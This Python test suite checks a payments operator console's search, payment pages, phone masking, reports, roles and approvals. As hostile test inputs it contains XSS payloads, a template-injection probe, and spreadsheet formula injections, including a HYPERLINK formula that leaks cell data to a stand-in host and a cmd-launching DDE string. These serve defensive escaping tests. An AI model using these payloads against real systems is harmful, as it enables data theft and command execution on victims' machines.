"""What the pages show, to whom, and what never becomes part of them."""

import csv
import io
from collections.abc import AsyncIterator
from datetime import timedelta

import pytest
from sqlalchemy import select, update

import payments
from console.exports import safe_cell
from console.finding import PER_PAGE
from console.reports import PaymentDay, begin_to_count, register_reports
from core import clock, names
from core.db import Database
from core.ids import new_id
from core.inbox import keep_aside
from core.money import Money
from core.outbox import Destination, say
from members import Member, register, use_phone, verify_phone
from operators import Act, OperatorAct, Role, operator_named, operators_in_office
from tests.console.kit import Counter, Seat, words_of
from tests.payments.kit import World

NOBODY = "01a204ba-79de-710a-996a-8a108133a629"
NASTY = '<script>alert("x")</script>'
NUMBER, HIDDEN = "+226 70 12 34 56", "+226 •• •• 34 56"


@pytest.fixture
async def seat(desk: Counter) -> AsyncIterator[Seat]:
    """An administrator at the console."""
    async with desk.seated("Chef") as seat:
        yield seat


async def member_called(database: Database, name: str, telegram: str, tier: str = "identified") -> Member:
    """Somebody who has written to the assistant under this name."""

    async def meet(session) -> Member:
        member = await register(session, "telegram", telegram, name, "fr")
        member.tier = tier
        return member

    return await database.run(meet)


async def test_a_member_is_found_by_any_beginning_of_any_of_their_names(desk: Counter, seat: Seat):
    awa = await member_called(desk.database, "Awa Ouédraogo-Traoré", "5100000001")
    await member_called(desk.database, "Awa Sawadogo", "5100000002")
    for words in ("ouedra", "OUÉDRAOGO awa", "traoré", "awa ouedraogo"):
        answer = await seat.opens("", q=words)
        assert str(answer.url).endswith(f"/console/members/{awa.id}"), words
    both = words_of((await seat.opens("", q="awa")).text)
    assert "Awa Ouédraogo-Traoré" in both
    assert "Awa Sawadogo" in both
    assert "Rien ne correspond" in words_of((await seat.opens("", q="wa")).text)


async def test_a_member_is_found_by_their_present_name_only(desk: Counter, seat: Seat):
    await member_called(desk.database, "Awa Ouédraogo", "5100000001")
    await member_called(desk.database, "Awa Zongo", "5100000001")
    assert "/console/members/" in str((await seat.opens("", q="zongo")).url)
    assert "Rien ne correspond" in words_of((await seat.opens("", q="ouedraogo")).text)


async def test_many_of_one_name_are_turned_over_page_by_page(desk: Counter, seat: Seat):
    many = PER_PAGE + 5
    for each in range(many):
        await member_called(desk.database, f"Awa N{each:02}", str(6_000_000_000 + each))
    first = (await seat.opens("", q="awa")).text
    assert first.count('href="/console/members/') == PER_PAGE
    async with desk.database.reading() as session:
        [*_, last] = await names.named(session, "member", "awa", limit=PER_PAGE)
    second = (await seat.opens("", q="awa", after=f"{last[0]}|{last[1]}")).text
    assert second.count('href="/console/members/') == many - PER_PAGE


async def test_a_member_is_found_by_number_and_by_their_id_on_a_channel(desk: Counter, seat: Seat):
    awa = await member_called(desk.database, "Awa", "5100000001")

    async def number(session) -> None:
        await use_phone(session, await session.get_one(Member, awa.id), "+22670123456")

    await desk.database.run(number)
    for words in ("70 12 34 56", "+226 70123456", "0022670123456", "5100000001", str(awa.id)):
        assert str((await seat.opens("", q=words)).url).endswith(str(awa.id)), words


async def test_a_payment_is_found_by_reference_however_it_is_typed_and_by_getmipays_id(
    desk: Counter, seat: Seat, world: World
):
    deposit = await world.open_deposit(await world.member())
    bare = deposit.reference.replace("-", "").lower()
    for words in (deposit.reference, deposit.reference.lower(), bare, deposit.provider_id, str(deposit.id)):
        assert str((await seat.opens("", q=words)).url).endswith(f"/console/payments/{deposit.reference}"), words


async def test_a_deposits_page_tells_its_whole_story_in_order(desk: Counter, seat: Seat, world: World):
    awa = await world.member("Awa Ouédraogo")
    deposit = await world.open_deposit(awa, 5000)
    await world.pay(deposit)

    async def told(session) -> None:
        view = {"text": f"✅ <b>Recharge reçue</b> sur le {NUMBER}"}
        await say(session, Destination("telegram", "5100000001"), view, subject=f"deposit:{deposit.id}")

    await desk.database.run(told)
    page = words_of((await seat.opens(f"/payments/{deposit.reference}")).text)
    told_in_order = [
        "Le membre a confirmé une recharge de 5 000 F CFA",
        "Webhook « payment.completed »",
        "la maison (solde marchand) → Awa Ouédraogo (portefeuille), deposit",
        "Message sur Telegram (••••0001) : à dire",
        "✅ Recharge reçue",
    ]
    places = [page.find(each) for each in told_in_order]
    assert -1 not in places, (told_in_order, page)
    assert places == sorted(places)
    assert "crédité" in page
    assert "70 12" not in page
    assert HIDDEN in page


async def test_a_payouts_page_tells_of_the_hold_and_of_what_is_still_to_be_done(
    desk: Counter, seat: Seat, world: World
):
    awa = await world.member("Awa")
    await world.give(awa, 10_000)
    payout = await world.open_payout(awa, 2000)
    page = words_of((await seat.opens(f"/payments/{payout.reference}")).text)
    assert "2 000 F CFA réservés dans le portefeuille" in page
    assert "GetMiPay a pris le retrait." in page
    assert "payout.submitted" not in page
    assert "Demander à GetMiPay où en est le retrait" in page
    member = words_of((await seat.opens(f"/members/{awa.id}")).text)
    assert "Réservé 2 000 F CFA" in member
    assert "Disponible 8 000 F CFA" in member
    statement = words_of((await seat.opens(f"/members/{awa.id}/wallet")).text)
    assert "+ 10 000 F CFA" in statement


async def test_a_send_has_a_page_and_both_people_on_it(desk: Counter, seat: Seat, world: World):
    awa, moussa = await world.member("Awa"), await world.member("Moussa")
    await world.give(awa, 10_000)
    send = await desk.database.run(
        lambda session: payments.request_send(session, awa, moussa.id, Money(500), "pour le mil", key="send-1")
    )
    page = (await seat.opens(f"/payments/{send.reference}")).text
    assert f"/console/members/{awa.id}" in page
    assert f"/console/members/{moussa.id}" in page
    assert "pour le mil" in page
    assert "Reçu · Awa" in words_of((await seat.opens(f"/members/{moussa.id}")).text)


async def test_a_whole_number_is_shown_for_a_reason_only_and_the_reason_is_kept(
    desk: Counter, seat: Seat, world: World
):
    deposit = await world.open_deposit(await world.member())
    path = f"/payments/{deposit.reference}"
    assert NUMBER not in words_of((await seat.opens(path)).text)
    refused = await seat.sends(f"{path}/number", reason="  ")
    assert refused.status_code == 409
    assert NUMBER not in words_of(refused.text)
    shown = await seat.sends(f"{path}/number", reason="l’opérateur demande le numéro exact")
    assert NUMBER in words_of(shown.text)
    act = await last_act(desk, Act.SEE_NUMBER)
    assert (act.subject, act.detail["reason"]) == (deposit.reference, "l’opérateur demande le numéro exact")
    assert "70123456" not in str(act.detail)


async def test_a_members_numbers_are_masked_and_shown_for_a_reason(desk: Counter, seat: Seat):
    awa = await member_called(desk.database, "Awa", "5100000001")
    await desk.database.run(lambda session: _verified(session, awa.id))
    path = f"/members/{awa.id}"
    page = words_of((await seat.opens(path)).text)
    assert HIDDEN in page
    assert NUMBER not in page
    assert "5100000001" not in page
    assert NUMBER in words_of((await seat.sends(f"{path}/numbers", reason="elle appelle d’un autre numéro")).text)
    assert (await last_act(desk, Act.SEE_NUMBER)).subject == f"member:{awa.id}"


async def _verified(session, member_id) -> None:
    await verify_phone(session, await session.get_one(Member, member_id), "+22670123456")


async def last_act(desk: Counter, act: Act) -> OperatorAct:
    async with desk.database.reading() as session:
        lines = select(OperatorAct).where(OperatorAct.act == act).order_by(OperatorAct.seq.desc())
        return (await session.scalars(lines.limit(1))).one()


async def test_what_members_call_themselves_never_becomes_markup(desk: Counter, seat: Seat, world: World):
    awa = await member_called(desk.database, NASTY, "5100000001")
    await world.give(awa, 10_000)
    other = await member_called(desk.database, '"><img src=x onerror=alert(1)>', "5100000002")
    send = await desk.database.run(
        lambda session: payments.request_send(session, awa, other.id, Money(500), "{{ 7 * 7 }}</code>", key="send-2")
    )
    await desk.database.run(
        lambda session: say(
            session, Destination("telegram", "5100000002"), {"text": "&lt;script&gt;alert(2)&lt;/script&gt;"},
            subject=f"send:{send.id}",
        )
    )  # fmt: skip
    await desk.database.run(
        lambda session: keep_aside(session, "telegram", "9", {"text": NASTY}, f"ValueError({NASTY!r})")
    )
    for path, query in (
        (f"/members/{awa.id}", {}), (f"/members/{other.id}", {}), (f"/members/{awa.id}/wallet", {}),
        (f"/payments/{send.reference}", {}), ("", {"q": "script"}), ("", {"q": NASTY}), ("/queues", {}),
        ("/decisions", {"from": NASTY}), ("/log", {"by": NASTY}), ("", {"q": "a", "done": NASTY}),
    ):  # fmt: skip
        page = (await seat.opens(path, **query)).text
        assert "<script" not in page, path
        assert "<img" not in page, path
        assert "49" not in page.partition("{{")[2][:20], path


async def test_the_queues_show_what_waits_and_what_was_kept_aside(desk: Counter, seat: Seat, world: World):
    await world.ask_deposit(await world.member())
    await desk.database.run(
        lambda session: keep_aside(session, "telegram", "9", {"text": "x"}, f"ValueError: {NUMBER}")
    )
    page = words_of((await seat.opens("/queues")).text)
    assert "submit_deposit · 1" in page
    assert "ValueError: +226 •• •• 34 56" in page
    assert NUMBER not in page


async def test_the_balance_page_shows_what_getmipay_last_said_beside_our_books(desk: Counter, seat: Seat, world: World):
    await world.pay(await world.open_deposit(await world.member(), 5000))
    assert "Chez GetMiPay" not in words_of((await seat.opens("/balance")).text)
    for said, minutes in ((4_000, 0), (4_321, 1)):
        with clock.ahead(timedelta(minutes=minutes)):
            await desk.database.run(lambda session, said=said: payments.compare_balance(session, Money(said)))
    page = words_of((await seat.opens("/balance")).text)
    assert "Chez GetMiPay, d’après GetMiPay 4 321 F CFA Chez nous à ce moment-là 5 000 F CFA" in page


async def test_the_balance_page_tells_the_houses_money_from_the_members(desk: Counter, seat: Seat, world: World):
    awa = await world.member("Awa")
    await world.pay(await world.open_deposit(awa, 5000))
    page = words_of((await seat.opens("/balance")).text)
    held, _ = await world.wallet(awa)
    assert "Solde marchand 5 000 F CFA" in page
    assert f"Argent des membres {held:,} F CFA".replace(",", " ") in page
    assert "Awa · portefeuille" in words_of((await seat.opens("/balance/provider")).text)
    assert (await seat.opens("/balance/nothing")).status_code == 404


async def test_a_report_counts_by_day_method_and_country(desk: Counter, seat: Seat, world: World):
    awa = await world.member("Awa")
    await world.pay(await world.open_deposit(awa, 5000))
    await world.pay(await world.open_deposit(awa, 3000), pin="1234")
    page = words_of((await seat.opens("/reports")).text)
    assert "Entrées 5 000 F CFA" in page
    assert "BF 5 000 F CFA (1)" in page
    assert "Wave 5 000 F CFA (1)" in page
    answer = await seat.opens("/reports.csv")
    assert answer.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in answer.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(answer.text.removeprefix("\ufeff"))))
    found = {(row["kind"], row["method"], row["country"], row["state"]): int(row["amount"]) for row in rows}
    assert found == {("deposit", "Wave", "BF", "settled"): 5000, ("deposit", "Wave", "BF", "failed"): 3000}


async def test_no_cell_of_a_members_operations_is_a_formula(desk: Counter, seat: Seat, world: World):
    awa = await member_called(desk.database, "Awa", "5100000001")
    thief = await member_called(desk.database, '=HYPERLINK("http://x/?"&A1)', "5100000002")
    await world.give(awa, 10_000)
    await desk.database.run(
        lambda session: payments.request_send(session, awa, thief.id, Money(500), "@SUM(1+1)", key="send-3")
    )
    answer = await seat.opens(f"/members/{awa.id}/operations.csv")
    [row] = csv.DictReader(io.StringIO(answer.text.removeprefix("\ufeff")))
    assert row["with"] == """'=HYPERLINK("http://x/?"&A1)"""
    assert row["note"] == "'@SUM(1+1)"
    assert row["amount"] == "-500"


async def test_a_day_is_counted_once_it_is_over_and_again_when_something_of_it_is_taken_back(
    desk: Counter, seat: Seat, world: World
):
    register_reports(world.jobs)
    deposit = await world.open_deposit(await world.member("Awa"), 5000)
    await world.pay(deposit)
    await desk.database.run(begin_to_count)
    tomorrow = timedelta(days=1, hours=1)
    await world.work(tomorrow)
    async with desk.database.reading() as session:
        [kept] = await session.scalars(select(PaymentDay))
    assert (kept.state, kept.amount) == ("settled", 5000)
    with clock.ahead(tomorrow):
        # What is kept is shown, whatever the payments' own table says by then.
        async with desk.database.transaction() as session:
            await session.execute(update(PaymentDay).values(amount=7000))
        async with desk.seated("Nuit") as night:
            assert "Entrées 7 000 F CFA" in words_of((await night.opens("/reports")).text)
    with clock.ahead(tomorrow):
        await desk.database.run(lambda session: _reversed(session, deposit.id))
    await world.work(tomorrow)
    async with desk.database.reading() as session:
        [kept] = await session.scalars(select(PaymentDay))
    assert (kept.state, kept.amount) == ("reversed", 5000)


async def _reversed(session, deposit_id) -> None:
    await payments.reverse_deposit(session, await payments.lock_deposit(session, deposit_id))


@pytest.mark.parametrize("words", ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "  =1", "\r=1", "\n=1"])
def test_no_words_are_a_formula_to_a_spreadsheet(words: str):
    assert str(safe_cell(words)).startswith("'")


def test_numbers_and_plain_words_stay_what_they_are_in_a_spreadsheet():
    assert safe_cell(-5) == -5
    assert safe_cell("Orange Money") == "Orange Money"


async def test_what_is_not_there_is_said_to_be_not_there(seat: Seat):
    for path in (f"/members/{new_id()}", "/members/x", "/payments/D-2222-2222-2222", "/payments/..%2f", "/tontines/x",
                 f"/decisions/{new_id()}", f"/members/{new_id()}/wallet"):  # fmt: skip
        answer = await seat.opens(path)
        assert answer.status_code == 404, path
        assert "Il n’y a rien à cette adresse" in words_of(answer.text)


@pytest.mark.parametrize(
    ("path", "query"),
    [
        ("/reports", {"since": "x"}), ("/reports", {"since": "2026-12-01", "until": "2026-11-01"}),
        ("/reports", {"until": "0001-01-01"}), ("/reports", {"since": "1900-01-01", "until": "1900-01-02"}),
        ("/log", {"before": "x"}), ("/log", {"before": "9" * 40}), ("/log", {"by": "x"}),
        ("/decisions", {"from": "x|y"}), ("/decisions", {"from": f"2026-01-01|{NOBODY}"}),
        ("/decisions", {"from": f"0001-01-01T00:00+09:00|{NOBODY}"}),
        (f"/members/{NOBODY}", {"before": f"2026-01-01|{NOBODY}"}),
        ("", {"q": "abc\x00def"}), ("", {"q": "a", "after": "x|y"}), ("", {"q": "a", "after": f"a\x00|{NOBODY}"}),
        ("", {"q": "é" * 400}), ("", {"q": "%_'\";--"}),
    ],
)  # fmt: skip
async def test_no_address_makes_the_console_fail(seat: Seat, path: str, query: dict[str, str]):
    assert (await seat.opens(path, **query)).status_code in {200, 404}


async def test_an_administrator_takes_on_moves_and_lets_go(desk: Counter, seat: Seat):
    added = await seat.sends("/operators", name="Binta", role="support", telegram="5100000009", language="fr")
    assert "peut écrire /console" in words_of(added.text)
    binta = await _named(desk, "Binta")
    assert (binta.role, binta.external_id) == (Role.SUPPORT, "5100000009")
    await seat.sends(f"/operators/{binta.id}/role", role="finance")
    assert (await _named(desk, "Binta")).role is Role.FINANCE
    await seat.sends(f"/operators/{binta.id}/dismiss")
    async with desk.database.reading() as session:
        assert [each.name for each in await operators_in_office(session)] == ["Chef"]


async def test_an_administrator_cannot_take_their_own_rights_away(desk: Counter, seat: Seat):
    for act in ("role", "dismiss"):
        answer = await seat.sends(f"/operators/{seat.operator.id}/{act}", role="support")
        assert answer.status_code == 403
    assert (await _named(desk, "Chef")).role is Role.ADMIN


async def test_who_cannot_be_taken_on_is_not(desk: Counter, seat: Seat):
    for wrong in ({"name": ""}, {"role": "king"}, {"telegram": "awa"}, {"language": "xx"}, {"telegram": "٣٤"}):
        fields = {"name": "Binta", "role": "support", "telegram": "5100000009", "language": "fr"} | wrong
        assert (await seat.sends("/operators", **fields)).status_code == 409
    async with desk.database.reading() as session:
        assert len(await operators_in_office(session)) == 1


async def test_a_lost_telephones_sessions_are_closed_by_somebody_else(desk: Counter, seat: Seat):
    async with desk.seated("Moussa", Role.SUPPORT) as lost:
        await seat.sends(f"/operators/{lost.operator.id}/sessions")
        assert (await lost.opens("")).status_code == 401


async def test_a_decision_takes_a_second_person_who_may(desk: Counter):
    done: list[str] = []

    async def carry_out(_, decision) -> None:
        done.append(decision.subject)

    desk.decisions.register("payment.resolve", Act.RESOLVE_PAYMENT, carry_out)
    async with (
        desk.seated("Finance", Role.FINANCE) as first,
        desk.seated("Deuxième", Role.FINANCE) as second,
        desk.seated("Aide", Role.SUPPORT) as support,
    ):
        decision = await desk.database.run(
            lambda session: desk.decisions.propose(
                session, first.operator, "payment.resolve", "D-2345-6789-BCDF", reason=f"GetMiPay confirme {NASTY}"
            )
        )
        path = f"/decisions/{decision.id}"
        page = (await second.opens(path)).text
        assert "GetMiPay confirme" in page
        assert "<script" not in page
        assert "/approve" not in (await first.opens(path)).text
        assert "/approve" not in (await support.opens(path)).text
        for seat in (first, support):
            assert (await seat.sends(f"{path}/approve")).status_code in {403, 409}
        assert (await support.sends(f"{path}/reject", reason="parce que")).status_code == 403
        assert done == []
        assert "Décision approuvée" in words_of((await second.sends(f"{path}/approve")).text)
        assert (await second.sends(f"{path}/approve")).status_code == 409
        assert done == ["D-2345-6789-BCDF"]
        assert "approuvée" in words_of((await second.opens("/decisions", past="yes")).text)


async def test_the_log_shows_who_did_what_and_can_be_followed_by_person(desk: Counter, seat: Seat):
    async with desk.seated("Moussa", Role.SUPPORT) as other:
        await other.opens("/queues")
    page = (await seat.opens("/log")).text
    assert "Moussa" in words_of(page)
    only = words_of((await seat.opens("/log", by=str(other.operator.id))).text)
    assert "queues" in only
    assert "operator:Chef" not in only


async def _named(desk: Counter, name: str):
    async with desk.database.reading() as session:
        found = await operator_named(session, name)
        assert found is not None
        return found
